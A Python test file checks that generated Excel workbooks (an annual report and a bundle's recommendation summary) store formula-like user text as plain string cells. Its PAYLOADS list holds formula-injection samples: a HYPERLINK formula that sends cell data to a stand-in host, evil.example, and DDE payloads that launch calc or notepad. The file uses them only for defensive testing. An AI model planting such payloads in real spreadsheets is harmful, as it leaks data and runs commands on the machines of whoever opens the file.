"""Text that a spreadsheet would run (``=``, ``+``, ``-``, ``@`` first: formulas, DDE calls) stays text in
every workbook we generate — the annual report (.xlsx fill) and the 推荐汇总表 of a bundle — and reads back
unchanged: reopened with openpyxl, each such cell is a string cell holding exactly what was typed."""

from __future__ import annotations

import copy
import io
from collections.abc import Iterator, Set

import pytest
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell

from forms import get_form
from forms.model import FieldType
from forms.records import load_record
from service.bundles.screen import screen_bundle
from templates.render import fill
from templates.summary import summary_xlsx
from tests.conftest import read_example
from tests.extractor.bundles import make_zip, unit_record

#: What an attacker types into a text field: formulas, a DDE payload, a function call after ``@``.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
)


def cells(data: bytes) -> Iterator[Cell]:
    workbook = load_workbook(io.BytesIO(data))  # not read-only: data_type and quotePrefix are kept
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_text_cells(data: bytes, exact: Set[str], leading: Set[str] = frozenset()) -> None:
    """Every payload of ``exact`` is a string cell holding it exactly, every one of ``leading`` begins one
    (written with more text after it); every cell that begins like a formula is a string cell with Excel's
    quote prefix (typed as text when edited too)."""
    found: set[str] = set()
    for cell in cells(data):
        if not isinstance(cell.value, str):
            continue
        if cell.value.startswith(("=", "+", "-", "@")):
            assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
            assert cell.quotePrefix, (cell.coordinate, cell.value)
        found.update(p for p in exact if cell.value == p)
        found.update(p for p in leading if cell.value.startswith(p))
    assert found == exact | leading


def test_the_annual_report_workbook_keeps_formula_text_as_text() -> None:
    form = get_form("annex2")
    record = copy.deepcopy(load_record(read_example("annex2.json")).record)
    payloads = iter(PAYLOADS * 10)
    used: set[str] = set()
    for section in form.sections:
        for f in section.fields:
            if f.type in (FieldType.TEXT, FieldType.PROSE) and f.key not in ("uscc", "contact_email"):
                record[section.key][f.key] = used_add(used, next(payloads))
    for row in record["operations"]["cases"]:
        for key in ("title", "client", "content", "impact"):
            row[key] = used_add(used, next(payloads))
    assert_text_cells(fill(form, record, "xlsx"), used)


def used_add(used: set[str], value: str) -> str:
    used.add(value)
    return value


@pytest.fixture(scope="module")
def hostile_bundle_summary() -> bytes:
    """The 推荐汇总表 of a bundle of two applications whose names, platforms and contacts are payloads."""
    records = [
        unit_record(1, applicant__name=PAYLOADS[0], applicant__contact_name=PAYLOADS[2]),
        unit_record(2, applicant__name=PAYLOADS[1], applicant__contact_name=PAYLOADS[3]),
    ]
    for record, payload in zip(records, (PAYLOADS[4], PAYLOADS[5]), strict=True):
        record["cover"]["applicant"] = record["applicant"]["name"]
        record["cover"]["platform_name"] = payload
    bundle = make_zip((f"单位{n}/申报书.docx", fill("annex1", r, "docx")) for n, r in enumerate(records))
    report = screen_bundle(bundle, name="推荐材料.zip", recommender='=HYPERLINK("x")', workers=1)
    return summary_xlsx(report.to_dict())


def test_the_summary_workbook_of_a_bundle_keeps_formula_text_as_text(hostile_bundle_summary) -> None:
    names = {
        PAYLOADS[0],
        PAYLOADS[1],
        PAYLOADS[4],
        PAYLOADS[5],
    }  # applicants and platforms, cells of their own
    assert_text_cells(hostile_bundle_summary, names, leading={PAYLOADS[2], PAYLOADS[3]})  # contact + phone
